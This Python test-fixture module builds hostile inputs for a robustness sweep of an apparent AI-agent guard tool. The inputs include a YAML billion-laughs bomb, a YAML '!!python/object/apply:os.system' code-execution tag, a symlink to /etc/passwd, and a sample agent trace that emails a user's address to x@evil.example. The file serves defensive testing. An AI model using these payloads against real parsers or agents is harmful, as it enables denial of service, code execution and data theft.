"""The hostile sweep's cases (`hostile_cli`): the files it feeds the commands, made in a
scratch directory, and one `Case` per command and hostile input."""

from __future__ import annotations

import gzip
import io
import json
import os
import random
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

from _hostile_run import SERVED, WAITS, Case

TRACE = {
    "messages": [
        {"role": "user", "content": "My email is ann@example.com; look up order O1."},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {
                    "id": "c1",
                    "type": "function",
                    "function": {
                        "name": "send_email",
                        "arguments": '{"to": "x@evil.example", "body": "ann@example.com"}',
                    },
                }
            ],
        },
        {"role": "tool", "tool_call_id": "c1", "content": "sent"},
        {"role": "assistant", "content": "Done."},
    ]
}
POLICY = "trusted: ['@shop.example']\nactions: {high: block}\nstop_after: 3\n"
LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{c}: &{c} [{', '.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True)
)


def _write(path: Path, data: bytes | str) -> Path:
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


def _fifo(path: Path) -> Path:
    if not path.exists():
        os.mkfifo(path)
    return path


def _feeder(fifo: Path, data: bytes, delay: float = 0.5):
    """A setup that writes ``data`` into ``fifo`` from a thread, once a reader opens it."""

    def start() -> None:
        def feed() -> None:
            time.sleep(delay)
            try:
                fd = os.open(fifo, os.O_WRONLY)  # waits for the reader
                os.write(fd, data)
                os.close(fd)
            except OSError:
                pass

        threading.Thread(target=feed, daemon=True).start()

    return start


def hostile_files(d: Path, good: bytes, suffix: str = ".jsonl") -> Iterator[tuple[str, Path]]:
    """(case name, path) of every generic hostile input, made under ``d``."""
    d.mkdir(parents=True, exist_ok=True)
    rng = random.Random(7)
    yield "missing file", d / f"missing{suffix}"
    yield "a directory", d
    yield "empty file", _write(d / f"empty{suffix}", b"")
    yield (
        "binary garbage",
        _write(d / f"garbage{suffix}", bytes(rng.randrange(256) for _ in range(4096))),
    )
    yield "invalid UTF-8", _write(d / f"latin1{suffix}", b'{"messages": "caf\xe9"}\n' + good)
    yield "0-byte .gz", _write(d / f"empty{suffix}.gz", b"")
    whole = gzip.compress(good * 50)
    yield "truncated .gz", _write(d / f"cut{suffix}.gz", whole[: len(whole) // 2])
    yield "FIFO, no writer", _fifo(d / f"fifo{suffix}")
    yield (
        "one 50 MB line",
        _write(d / f"long{suffix}", b'{"messages": "' + b"a" * (50 << 20) + b'"}\n'),
    )
    yield "JSON numbers", _write(d / f"numbers{suffix}", b"1\n2.5\n1e999\n")
    yield "JSON arrays", _write(d / f"arrays{suffix}", b"[1, 2]\n[]\n")
    yield "nested 10,000 deep", _write(d / f"deep{suffix}", b"[" * 10000 + b"]" * 10000 + b"\n")
    deep = b'{"messages": [{"role": "user", "content": ' + b"[" * 10000 + b"]" * 10000 + b"}]}\n"
    yield "nested 10,000 deep in a field", _write(d / f"deepfield{suffix}", deep)
    yield "symlink to /etc/passwd", _link(d / f"passwd{suffix}", "/etc/passwd")
    yield "/dev/zero", _link(d / f"zero{suffix}", "/dev/zero")


def _link(path: Path, target: str) -> Path:
    if not path.is_symlink():
        path.symlink_to(target)
    return path


def hostile_yaml(d: Path) -> Iterator[tuple[str, Path, tuple]]:
    """(case, path, acceptable exits) of hostile policy YAML."""
    d.mkdir(parents=True, exist_ok=True)
    yield "YAML malformed", _write(d / "bad.yaml", "trusted: [a, b\nactions: {"), (2,)
    yield "YAML a list", _write(d / "list.yaml", "- 1\n- 2\n"), (2,)
    yield "YAML a number", _write(d / "num.yaml", "42\n"), (2,)
    yield "YAML unknown key", _write(d / "unknown.yaml", "trustd: ['@a.example']\n"), (2,)
    yield "YAML duplicate key", _write(d / "dup.yaml", "stop_after: 1\nstop_after: 99\n"), (2,)
    yield "YAML wrong type", _write(d / "type.yaml", "stop_after: lots\ntrusted: 5\n"), (2,)
    yield "YAML billion laughs", _write(d / "laughs.yaml", LAUGHS + "trusted: *i\n"), (2,)
    yield (
        "YAML nested 10,000",
        _write(d / "deep.yaml", "trusted: " + "[" * 10000 + "]" * 10000),
        (2,),
    )
    yield (
        "YAML python tag",
        _write(d / "tag.yaml", "trusted: !!python/object/apply:os.system [id]\n"),
        (2,),
    )
    yield "YAML numbers NaN", _write(d / "nan.yaml", "stop_after: .nan\n"), (2,)
    yield "YAML stop_after 1e999", _write(d / "huge.yaml", "stop_after: 1e999\n"), (2,)
    yield "YAML empty (defaults)", _write(d / "empty.yaml", ""), (0, 1, SERVED)
    yield "YAML binary", _write(d / "bin.yaml", bytes(range(256)) * 8), (2,)


def make_fixtures(work: Path) -> dict[str, Path]:
    """The good inputs the cases start from."""
    f: dict[str, Path] = {}
    f["traces"] = _write(work / "traces.jsonl", json.dumps(TRACE) + "\n")
    f["policy"] = _write(work / "policy.yaml", POLICY)
    f["ro"] = work / "readonly"  # immutable (chattr +i): even root cannot write in it
    if not f["ro"].is_dir():
        f["ro"].mkdir()
        _write(f["ro"] / "data.jsonl", json.dumps(TRACE) + "\n")
        subprocess.run(["chattr", "+i", str(f["ro"])], check=True)
    f["outdir"] = work / "outdir"
    f["outdir"].mkdir(exist_ok=True)
    os.chmod(f["outdir"], 0o777)
    f["log"] = _decision_log(work / "decisions.jsonl")
    raw = work / "raw"
    if not raw.is_dir():
        subprocess.run(
            [
                sys.executable,
                str(Path(__file__).parent / "raw_export_traces.py"),
                "--n",
                "2",
                "--out",
                str(raw),
            ],
            check=True,
            capture_output=True,
        )
    shards = work / "shards"
    shards.mkdir(exist_ok=True)
    for name in ("langfuse", "otel-genai"):
        lines = (raw / f"raw-{name}.jsonl").read_bytes().splitlines(keepends=True)
        f[name] = _write(
            shards / f"{name}.jsonl", b"".join(lines[: 4 if name == "otel-genai" else 120])
        )
    keys = _keys(work / "keys")
    f.update(keys)
    return f


def _decision_log(path: Path) -> Path:
    from backdoorlab.defenses.guard.ledger import Ledger

    buffer = io.StringIO()
    ledger = Ledger(buffer)
    for step in range(4):
        ledger.write({"step": step, "tool": "send_email", "blocked": step % 2 == 1})
    return _write(path, buffer.getvalue())


def _keys(d: Path) -> dict[str, Path]:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec, rsa

    d.mkdir(exist_ok=True)
    key = ec.generate_private_key(ec.SECP256R1())
    pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    public = key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    rsa_pem = rsa.generate_private_key(65537, 2048).private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    return {
        "key": _write(d / "key.pem", pem),
        "pub": _write(d / "pub.pem", public),
        "rsa": _write(d / "rsa.pem", rsa_pem),
    }


def all_cases(work: Path) -> Iterator[Case]:
    from _hostile_agent_logs import agent_log_cases
    from _hostile_commands import (
        audit_cases,
        provenance_cases,
        proxy_cases,
        replay_cases,
        serve_cases,
        verify_cases,
    )

    f = make_fixtures(work)
    for cases in (
        replay_cases,
        verify_cases,
        proxy_cases,
        serve_cases,
        audit_cases,
        agent_log_cases,
        provenance_cases,
    ):
        yield from cases(work, f)


__all__ = ["Case", "SERVED", "WAITS", "all_cases", "hostile_files", "hostile_yaml", "_feeder"]
